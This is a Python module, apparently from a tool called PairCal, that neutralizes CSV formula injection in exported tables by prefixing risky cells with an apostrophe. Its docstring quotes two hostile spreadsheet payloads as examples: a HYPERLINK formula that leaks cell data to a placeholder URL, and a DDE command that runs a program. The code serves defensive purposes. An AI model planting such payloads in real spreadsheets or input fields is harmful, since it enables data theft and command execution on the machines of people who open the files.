"""Tables written for people: every CSV PairCal writes and every table the app shows.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, so a rater named ``=HYPERLINK("http://...?"&A1, "x")`` or a tag
``=cmd|' /C calc'!A0`` would run in the lead's spreadsheet when a file is
opened. Following OWASP's advice on CSV injection, every text cell that a
spreadsheet could take for a formula gets a leading apostrophe, which
spreadsheets read as "this is text" and do not show. Numbers stay numbers.

One path for all of them:

* :func:`spreadsheet_safe` makes any frame (or series) safe: every text cell,
  the index and the column names. The app hands every table to
  ``st.dataframe`` through it, since the table's toolbar offers "Download as CSV".
* :func:`csv_text` is the CSV text of a safe frame; the judgments CSV
  (:func:`pairs.judgments.to_csv`), the leaderboard CSV of ``python -m
  calibration`` and the app's CSV downloads are all written through it.
* :func:`write_csv` writes that text to a file atomically.

What counts as formula-like (:func:`formula_like`): text whose first character
is a tab, carriage return or line feed; or whose first character that is not
whitespace or an invisible formatting character is ``=``, ``+``, ``-`` or
``@``, or a compatibility form of one (the full-width ``＝``, ``＋``, ``－``,
``＠``, the small forms ``﹦``, ``﹢``, ``﹣``, ``﹫``), or the minus sign ``−``.
Leading spaces do not hide a formula: several spreadsheets drop them.
"""

from __future__ import annotations

import os
import re
import unicodedata
from typing import TypeVar

import numpy as np
import pandas as pd

from pairs.files import atomic_write

__all__ = [
    "CSV_DECIMALS",
    "count_of",
    "csv_text",
    "float_text",
    "formula_like",
    "neutralize_formula",
    "signed_percent",
    "spreadsheet_safe",
    "write_csv",
]

_FORMULA_STARTS = frozenset("=+-@\u2212")
"""First characters a spreadsheet may run as a formula (after NFKC), with the minus sign U+2212."""
_BREAKING_STARTS = frozenset("\t\r\n")
"""First characters OWASP lists on their own: a cell starting with one is neutralized as it is."""

_NUMBER = r"[+\-]?[0-9]+(?:\.[0-9]+)?%?"
_NUMERIC = re.compile(rf"{_NUMBER}(?: to {_NUMBER})?")
"""A number or a range of two numbers, as the app writes figures: never a formula."""

_PLAIN_START = "[0-9A-Za-z_]"
"""Cells starting with one of these are not formula-like; only the others are looked at one by one."""

Table = TypeVar("Table", pd.DataFrame, pd.Series)


def formula_like(text: str) -> bool:
    """Whether a spreadsheet could run ``text`` as a formula.

    Parameters
    ----------
    text : str
        A cell's text.

    Returns
    -------
    bool
        True when ``text`` starts with a tab, carriage return or line feed, or
        when its first character that is neither whitespace nor an invisible
        control or formatting character (Unicode Cc, Cf) is ``=``, ``+``,
        ``-``, ``@`` or a compatibility form of one (full-width, small), or the
        minus sign U+2212.

    A number, or a range of two written ``"-0.1 to 0.2"`` (an ASCII sign,
    ASCII digits, a decimal point, an optional ``%``), is not formula-like: it calls
    nothing, and the app's tables write negative figures that way.

    Examples
    --------
    >>> [formula_like(t) for t in ["=1+1", "  =1+1", "\\uff1dSUM(A1)", "\\u200b@x", "\\tx", "ann", "a=b", ""]]
    [True, True, True, True, True, False, False, False]
    >>> [formula_like(t) for t in ["-0.120", "+8%", "-0.097 to 0.361", "-1+2", "-0.1 to A1"]]
    [False, False, False, True, True]
    """
    if not text:
        return False
    if _NUMERIC.fullmatch(text):
        return False
    if text[0] in _BREAKING_STARTS:
        return True
    for ch in text:
        if ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf"):
            continue
        if ch in _FORMULA_STARTS:
            return True
        return not ch.isascii() and unicodedata.normalize("NFKC", ch)[:1] in _FORMULA_STARTS
    return False


def neutralize_formula(value):
    """``value`` behind an apostrophe when it is text a spreadsheet could run as a formula.

    Parameters
    ----------
    value : object
        A cell; only text is changed.

    Returns
    -------
    object
        ``"'" + value`` when ``value`` is text that :func:`formula_like` accepts;
        otherwise ``value`` itself (numbers, missing values, plain text).

    Examples
    --------
    >>> [neutralize_formula(cell) for cell in ["=1+1", " -2", "ann", -3]]
    ["'=1+1", "' -2", 'ann', -3]
    """
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def _may_hold_text(dtype) -> bool:
    """Whether a column of ``dtype`` can hold text: object or a string dtype (categories aside)."""
    return pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)


def _safe_values(values: pd.Series) -> pd.Series:
    """``values`` with its formula-like text neutralized; ``values`` itself when none is.

    Each distinct value is checked once (a column of a million judgments has a
    few hundred raters), and only the rows holding a formula-like text are changed.
    """
    dtype = values.dtype
    if isinstance(dtype, pd.CategoricalDtype):
        categories = dtype.categories
        if not _may_hold_text(categories.dtype):
            return values
        plain = pd.Series(categories, dtype=categories.dtype)
        safe = _safe_values(plain)
        if safe is plain:
            return values
        if safe.is_unique:
            return values.cat.rename_categories(list(safe))
        return _safe_values(values.astype(object))  # "=1" and "'=1" both categories
    if not _may_hold_text(dtype):
        return values
    rows = _unsure_rows(values)
    if rows is not None:
        if not len(rows):
            return values
        unsure = values.iloc[rows]
    else:
        unsure = values
    try:
        codes, uniques = pd.factorize(unsure)
    except TypeError:  # unhashable cells (lists): check them one by one
        mapped = values.map(neutralize_formula)
        return values if mapped.equals(values) else mapped
    risky = np.array(
        [i for i, u in enumerate(uniques) if isinstance(u, str) and formula_like(u)], dtype=np.int64
    )
    if not len(risky):
        return values
    safe_uniques = np.asarray(uniques, dtype=object)
    safe_uniques[risky] = ["'" + safe_uniques[i] for i in risky]
    changed = np.isin(codes, risky)
    positions = np.flatnonzero(changed) if rows is None else rows[changed]
    out = values.to_numpy(dtype=object, copy=True)
    out[positions] = safe_uniques[codes[changed]]
    return pd.Series(out, index=values.index, name=values.name, dtype=dtype)


def _unsure_rows(values: pd.Series) -> np.ndarray | None:
    """Positions of the cells that do not start with an ASCII letter, digit or underscore (only
    those can be formula-like), found by one vectorized match; None when the column has no
    ``.str`` (cells of other kinds only)."""
    try:
        plain = values.str.match(_PLAIN_START)
    except (AttributeError, TypeError):
        return None
    return np.flatnonzero(~plain.fillna(False).to_numpy(dtype=bool))


def _safe_index(index: pd.Index) -> pd.Index:
    """``index`` (each level of a MultiIndex) with formula-like labels and names neutralized;
    ``index`` itself when none is."""
    names = [neutralize_formula(name) for name in index.names]
    if isinstance(index, pd.MultiIndex):
        levels = [index.get_level_values(i) for i in range(index.nlevels)]
        safe = [_safe_index(level) for level in levels]
        if names == list(index.names) and all(s is level for s, level in zip(safe, levels, strict=True)):
            return index
        return pd.MultiIndex.from_arrays(safe, names=names)
    as_series = pd.Series(index, dtype=index.dtype)
    safe_values = _safe_values(as_series)
    if safe_values is as_series and names == list(index.names):
        return index
    return pd.Index(safe_values, name=names[0])


def spreadsheet_safe(table: Table) -> Table:
    """``table`` with :func:`neutralize_formula` applied to every text cell, index label and column name.

    The one way a table leaves PairCal: every CSV file is written from it
    (:func:`csv_text`), and the app hands every table it shows to
    ``st.dataframe`` through it, since the table's toolbar offers "Download
    as CSV" and writes the cells as they are.

    Parameters
    ----------
    table : DataFrame or Series
        Any table. Text is found in object, string and categorical columns;
        numbers, times and missing values are left as they are.

    Returns
    -------
    DataFrame or Series
        Of the same shape, dtypes and order; ``table`` itself when nothing in
        it is formula-like, else a copy.

    Examples
    --------
    >>> spreadsheet_safe(pd.DataFrame({"rater": ["=1+1", "ann"], "n": [-3, 4]})).to_dict("list")
    {'rater': ["'=1+1", 'ann'], 'n': [-3, 4]}
    >>> spreadsheet_safe(pd.Series({"=2+2": 3, "math": 1}, name="pairs")).index.tolist()
    ["'=2+2", 'math']
    """
    index = _safe_index(table.index)
    if isinstance(table, pd.Series):
        values = _safe_values(table)
        name = neutralize_formula(table.name)
        if values is table and index is table.index and name == table.name:
            return table
        out = values.copy(deep=False)
        out.index, out.name = index, name
        return out
    columns = _safe_index(table.columns)
    given = [table.iloc[:, i] for i in range(table.shape[1])]
    safe = [_safe_values(column) for column in given]
    changed = [i for i, column in enumerate(given) if safe[i] is not column]
    if not changed and index is table.index and columns is table.columns:
        return table
    out = table.copy(deep=False)
    for i in changed:
        out.isetitem(i, safe[i])  # a series of the same index: its dtype is kept
    return out.set_axis(index, axis=0).set_axis(columns, axis=1)


CSV_DECIMALS = 10
"""Decimals a CSV float keeps by default: enough for any figure, none of binary noise (0.8200000000000001)."""


def float_text(value: float, decimals: int = CSV_DECIMALS) -> str:
    """A float as a CSV writes it: at most ``decimals`` decimals, no trailing zeros, no exponent.

    Parameters
    ----------
    value : float
    decimals : int, default :data:`CSV_DECIMALS`

    Returns
    -------
    str

    Examples
    --------
    >>> float_text(0.8200000000000001), float_text(2.0), float_text(0.123456789, 4), float_text(-0.00001, 4)
    ('0.82', '2', '0.1235', '0')
    """
    text = np.format_float_positional(float(value), precision=decimals, unique=True, trim="-")
    return "0" if text in ("-0", "-0.") else text


def count_of(n: int, noun: str, plural: str | None = None) -> str:
    """A count and its noun, singular for one: "1 day", "2 days", "1,200 judgments".

    Parameters
    ----------
    n : int
    noun : str
        The singular.
    plural : str, optional
        The plural, when it is not ``noun + "s"``.

    Returns
    -------
    str

    Examples
    --------
    >>> count_of(1, "day"), count_of(0, "day"), count_of(1200, "judgment"), count_of(2, "match", "matches")
    ('1 day', '0 days', '1,200 judgments', '2 matches')
    """
    n = int(n)
    return f"{n:,} {noun if n == 1 else plural or noun + 's'}"


def signed_percent(value: float | None) -> str:
    """A difference of two rates (overconfidence: mean confidence minus accuracy) as PairCal writes it.

    Parameters
    ----------
    value : float or None
        The difference as a fraction; None or NaN when not known.

    Returns
    -------
    str
        A whole signed percent ("+8%", "-3%"), "0%" when it rounds to nothing, "n/a" when unknown.

    Examples
    --------
    >>> signed_percent(0.08), signed_percent(-0.031), signed_percent(0.001), signed_percent(None)
    ('+8%', '-3%', '0%', 'n/a')
    """
    if value is None or not np.isfinite(value):
        return "n/a"
    text = format(float(value), "+.0%")
    return "0%" if text in ("+0%", "-0%") else text


def csv_text(table: pd.DataFrame | pd.Series, *, index: bool = False, decimals: int = CSV_DECIMALS) -> str:
    """CSV text of :func:`spreadsheet_safe` ``(table)``: how every CSV PairCal writes is made.

    Parameters
    ----------
    table : DataFrame or Series
        The table, with a header of its column names.
    index : bool
        Whether to write the index as the first column(s) (default: no).
    decimals : int, default :data:`CSV_DECIMALS`
        Decimals of a float cell (:func:`float_text`); missing values stay empty.

    Returns
    -------
    str
        The CSV, with no formula-like text cell, index label or column name.
        Lines end in ``\\n``; but when a text holds a carriage return, every
        line ends in ``\\r\\n``, so that the writer quotes that text. (Written
        bare, a carriage return inside a cell starts a new row in a
        spreadsheet, and the rest of the cell a new, unprotected, first cell.)

    Examples
    --------
    >>> print(csv_text(pd.DataFrame({"pair_id": ["=1+1", "p2"], "votes": [-1, 2]})), end="")
    pair_id,votes
    '=1+1,-1
    p2,2
    >>> csv_text(pd.DataFrame({"rater": ["x\\r=1+1"]}))
    'rater\\r\\n"x\\r=1+1"\\r\\n'
    """
    safe = spreadsheet_safe(table)
    frame = safe.to_frame() if isinstance(safe, pd.Series) else safe
    returns = _holds_carriage_return(frame, index=index)
    return safe.to_csv(
        index=index,
        lineterminator="\r\n" if returns else "\n",
        float_format=lambda x: float_text(x, decimals),
    )


def _holds_carriage_return(frame: pd.DataFrame, *, index: bool) -> bool:
    """Whether a text cell, column name or (when written) index label of ``frame`` holds ``\\r``."""
    places = [frame.iloc[:, i] for i in range(frame.shape[1])] + [
        pd.Series(list(frame.columns), dtype=object)
    ]
    if index:
        places += [
            pd.Series(frame.index.get_level_values(i), dtype=object) for i in range(frame.index.nlevels)
        ]
        places.append(pd.Series(list(frame.index.names), dtype=object))
    for values in places:
        if isinstance(values.dtype, pd.CategoricalDtype):
            values = pd.Series(values.cat.categories)
        if not _may_hold_text(values.dtype):
            continue
        try:
            found = values.str.contains("\r", regex=False)
        except (AttributeError, TypeError):  # no text at all
            continue
        if found.fillna(False).astype(bool).any():
            return True
    return False


def write_csv(path: str | os.PathLike, table: pd.DataFrame | pd.Series, *, index: bool = False) -> None:
    """Write :func:`csv_text` ``(table)`` to ``path`` atomically (:func:`pairs.files.atomic_write`).

    Parameters
    ----------
    path : str or path-like
        The file, replaced whole; on any error it is left as it was.
    table : DataFrame or Series
        The table.
    index : bool
        Whether to write the index (default: no).
    """
    atomic_write(path, [csv_text(table, index=index)])
